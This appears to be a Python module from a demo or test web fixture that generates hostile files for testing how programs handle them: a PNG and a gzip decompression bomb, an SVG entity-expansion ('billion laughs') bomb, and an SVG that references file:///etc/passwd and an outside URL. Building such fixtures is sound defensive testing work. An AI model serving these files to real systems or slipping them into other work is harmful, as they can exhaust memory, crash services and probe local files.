"""Files that grow or reach out when a careless program opens them."""

from __future__ import annotations

import struct
import zlib
from functools import lru_cache

from samelook.demo.sample_web.drawing import svg
from samelook.demo.sample_web.logos import LOGOS

_MEBIBYTE = 1 << 20


@lru_cache(maxsize=1)
def picture_bomb() -> bytes:
    """A valid PNG of about 50 KB that unpacks to 20,000 by 20,000 grey pixels (400 MB)."""
    side = 20_000
    rows, times = bytes(side // 8 + 1) * 100, side // 100
    checksum = 1
    for _ in range(times):
        checksum = zlib.adler32(rows, checksum)
    packed = b"\x78\xda" + _repeated(rows, times) + struct.pack(">I", checksum)
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", packed) + _chunk(b"IEND", b"")


@lru_cache(maxsize=1)
def page_bomb() -> bytes:
    """A valid gzip stream of about 130 KB that unpacks to 128 MB of blanks."""
    blanks = b" " * _MEBIBYTE
    times, checksum = 128, 0
    for _ in range(times):
        checksum = zlib.crc32(blanks, checksum)
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    return header + _repeated(blanks, times) + struct.pack("<II", checksum, times * _MEBIBYTE)


def entity_bomb() -> bytes:
    """An SVG of 1 KB whose entities unfold to a thousand million shapes."""
    levels = [f'<!ENTITY e{level} "{f"&e{level - 1};" * 10}">' for level in range(1, 10)]
    entities = "<!ENTITY e0 \"<circle cx='48' cy='48' r='9'/>\">" + "".join(levels)
    drawing = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 96 96">&e9;</svg>'
    return f"<!DOCTYPE svg [{entities}]>{drawing}".encode()


def reaching_svg(outside: str) -> bytes:
    """An honest drawing that also asks for a local file and for `outside`, a URL; browsers fetch neither."""
    wishes = "".join(f'<use href="{wish}#part"/>' for wish in ("file:///etc/passwd", outside))
    return svg(LOGOS["patchwork"], style=f"@import url('{outside}');", extra=wishes).encode()


def _repeated(part: bytes, times: int) -> bytes:
    """A deflate stream (RFC 1951) of a part again and again, compressed only once."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    # After a full flush nothing refers back, so the compressed part can be repeated; an empty block ends it.
    return (compressor.compress(part) + compressor.flush(zlib.Z_FULL_FLUSH)) * times + b"\x03\x00"


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
